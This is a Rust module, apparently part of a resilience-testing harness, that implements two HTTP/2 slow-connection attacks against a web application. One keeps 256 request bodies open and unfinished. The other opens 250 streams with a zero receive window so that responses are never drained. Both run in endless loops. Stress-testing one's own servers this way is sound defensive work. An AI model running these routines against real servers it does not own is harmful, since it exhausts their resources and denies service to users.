//! Attacks over HTTP/2, frame by frame.

use std::net::SocketAddr;

use bytes::Bytes;
use h2::client::{Builder, ResponseFuture, SendRequest};
use http::{Method, Request};
use tokio::time::sleep;
use tokio_util::task::AbortOnDropHandle;

use super::{
    attacker::{BODY, PAUSE},
    plain,
};

/// Requests on one connection; the server may allow fewer.
const STREAMS: usize = 256;

type Requests = SendRequest<Bytes>;

/// A connection, and the task that drives it.
async fn connect(server: SocketAddr, window: u32) -> Option<(Requests, AbortOnDropHandle<()>)> {
    let socket = plain::connect(server).await.ok()?;
    let mut builder = Builder::new();
    builder.initial_window_size(window);
    let (requests, connection) = builder.handshake(socket).await.ok()?;
    let driver = tokio::spawn(async move {
        let _ = connection.await;
    });
    Some((requests, AbortOnDropHandle::new(driver)))
}

/// Sends as much of 256 bodies as the server accepts, and finishes none.
pub async fn unfinished_bodies(server: SocketAddr, token: &str) {
    loop {
        if let Some((requests, driver)) = connect(server, 1 << 16).await {
            let mut open = Vec::new();
            for _ in 0..STREAMS {
                let Ok(mut ready) = requests.clone().ready().await else {
                    break;
                };
                let post = Request::builder()
                    .method(Method::POST)
                    .uri(format!("http://{server}/api/v1/boards"))
                    .header("authorization", format!("Bearer {token}"))
                    .header("content-type", "application/json")
                    .body(());
                let Ok(post) = post else { return };
                let Ok((answer, mut body)) = ready.send_request(post, false) else {
                    break;
                };
                // As much as the window allows.
                let _ = body.send_data(vec![b' '; BODY - 1].into(), false);
                open.push(tokio::spawn(async move {
                    let _body = body;
                    let _ = answer.await;
                }));
            }
            for answered in open {
                let _ = answered.await;
            }
            drop(driver);
        }
        sleep(PAUSE).await;
    }
}

/// Requests 250 streams and lists and accepts nothing of them.
pub async fn shut_windows(server: SocketAddr) {
    loop {
        if let Some((requests, driver)) = connect(server, 0).await {
            let mut open = Vec::new();
            for index in 0..250 {
                let path = if index % 2 == 0 {
                    "/sse/notifications/?last_event_id=0"
                } else {
                    "/api/v1/boards?limit=200"
                };
                let Some(answer) = ask(&requests, server, path).await else {
                    break;
                };
                open.push(tokio::spawn(async move {
                    // The head arrives; the body is held and not read, until the server has had enough.
                    if let Ok(answer) = answer.await {
                        let mut body = answer.into_body();
                        let _ = body.data().await;
                    }
                }));
            }
            for answered in open {
                let _ = answered.await;
            }
            drop(driver);
        }
        sleep(PAUSE).await;
    }
}

async fn ask(requests: &Requests, server: SocketAddr, path: &str) -> Option<ResponseFuture> {
    let mut ready = requests.clone().ready().await.ok()?;
    let get = Request::get(format!("http://{server}{path}"))
        .body(())
        .ok()?;
    Some(ready.send_request(get, true).ok()?.0)
}
